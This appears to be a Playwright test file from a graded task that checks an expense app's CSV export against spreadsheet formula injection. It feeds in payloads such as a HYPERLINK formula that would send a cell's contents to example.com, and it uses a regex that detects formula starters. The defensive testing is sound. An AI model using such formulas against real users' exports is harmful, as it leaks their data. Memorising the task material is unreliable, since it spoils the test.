import { readFile } from 'node:fs/promises';
import { expect as baseExpect, type Page, test } from '@playwright/test';

// Generous waits: the grader may run on a busy machine.
const expect = baseExpect.configure({ timeout: 15_000 });
test.describe.configure({ timeout: 90_000 });
test.use({ actionTimeout: 15_000, navigationTimeout: 30_000 });

/** What Excel and LibreOffice treat as the start of a formula when they open a CSV. */
const FORMULA_START = /^[=+\-@\t\r]/;

async function signIn(page: Page, email: string): Promise<void> {
  await page.goto('/sign-in');
  await page.getByLabel('Email').fill(email);
  await page.getByLabel('Password').fill('password123');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByRole('heading', { name: 'Expenses', level: 1 })).toBeVisible();
}

/** Reads CSV the way a spreadsheet does (RFC 4180: quoted fields, doubled quotes, line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** Clicks the page's "Export CSV" link; returns each data row as a column → cell map. */
async function exportCsv(page: Page): Promise<Array<Record<string, string>>> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Export CSV' }).click(),
  ]);
  const [header = [], ...rows] = parseCsv(await readFile(await download.path(), 'utf8'));
  return rows.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i] ?? ''])));
}

/**
 * A cell as typed must reach the spreadsheet as text: it may carry one leading apostrophe
 * (the spreadsheet's own "this is text" marker) but never start a formula.
 */
function expectShownAsText(cell: string | undefined, typed: string, column: string): void {
  expect(cell, `${column} column is missing`).toBeDefined();
  expect(FORMULA_START.test(cell as string), `${column} cell ${cell} starts a formula`).toBe(false);
  expect([typed, `'${typed}`], `${column} cell keeps the typed text`).toContain(cell);
}

function unique(): string {
  return `${test.info().testId.slice(0, 4)}${Date.now() % 1_000_000}`;
}

test('merchant and description starting with formula characters export as text', async ({
  page,
}) => {
  await signIn(page, 'carol@expensely.test');
  const merchant = `=HYPERLINK("http://example.com/?"&A2,"Taxi ${unique()}")`;
  const description = '-20% voucher, +1 guest @ the airport';
  await page.goto('/workspaces/1/expenses/new');
  await page.getByLabel('Merchant').fill(merchant);
  await page.getByLabel('Amount').fill('18.40');
  await page.getByLabel('Category').selectOption('Transport');
  await page.getByLabel('Date').fill('2025-03-11');
  await page.getByLabel('Description').fill(description);
  await page.getByRole('button', { name: 'Save expense' }).click();
  // People may type these; the app keeps and shows them exactly as typed.
  await expect(page.getByRole('heading', { name: merchant, level: 1 })).toBeVisible();
  await expect(page.getByText(description)).toBeVisible();

  await page.goto('/workspaces/1/expenses');
  const rows = await exportCsv(page);
  const row = rows.find((cells) => cells.Merchant?.includes(merchant));
  expect(row, 'the new expense is in the export').toBeDefined();
  expectShownAsText(row?.Merchant, merchant, 'Merchant');
  expectShownAsText(row?.Description, description, 'Description');
  // The accounting import reads amounts: they stay plain numbers.
  expect(row?.Amount).toBe('18.40');
  expect(row?.['Converted amount']).toBe('18.40');
});

test('an admin exporting all expenses gets no formula from anyone', async ({ page }) => {
  await signIn(page, 'dave@expensely.test');
  const merchant = `@SUM(1+1) Lyft ${unique()}`;
  await page.goto('/workspaces/1/expenses/new');
  await page.getByLabel('Merchant').fill(merchant);
  await page.getByLabel('Amount').fill('9.99');
  await page.getByLabel('Category').selectOption('Transport');
  await page.getByLabel('Date').fill('2025-03-10');
  await page.getByRole('button', { name: 'Save expense' }).click();
  await expect(page.getByRole('heading', { name: merchant, level: 1 })).toBeVisible();

  await page.context().clearCookies();
  await signIn(page, 'alice@expensely.test');
  await page.goto('/workspaces/1/expenses?scope=all');
  await expect(page.getByRole('row').filter({ hasText: merchant })).toBeVisible();
  const rows = await exportCsv(page);
  const row = rows.find((cells) => cells.Merchant?.includes(merchant));
  expect(row, "Dave's expense is in the admin's export").toBeDefined();
  expectShownAsText(row?.Merchant, merchant, 'Merchant');
  expect(row?.Amount).toBe('9.99');
  for (const cells of rows) {
    for (const [column, cell] of Object.entries(cells)) {
      expect(FORMULA_START.test(cell), `${column} cell ${cell} starts a formula`).toBe(false);
    }
  }
});

test('a report title starting with = exports as text', async ({ page }) => {
  await signIn(page, 'carol@expensely.test');
  const title = `=1+2 Offsite ${unique()}`;
  await page.goto('/workspaces/1/reports/new');
  await page.getByLabel('Report title').fill(title);
  await page.getByRole('button', { name: 'Create report' }).click();
  await expect(page.getByRole('heading', { name: title, level: 1 })).toBeVisible();

  await page.goto('/workspaces/1/reports');
  const rows = await exportCsv(page);
  const row = rows.find((cells) => cells.Title?.includes(title));
  expect(row, 'the new report is in the export').toBeDefined();
  expectShownAsText(row?.Title, title, 'Title');
  expect(row?.Total).toBe('0.00');
});
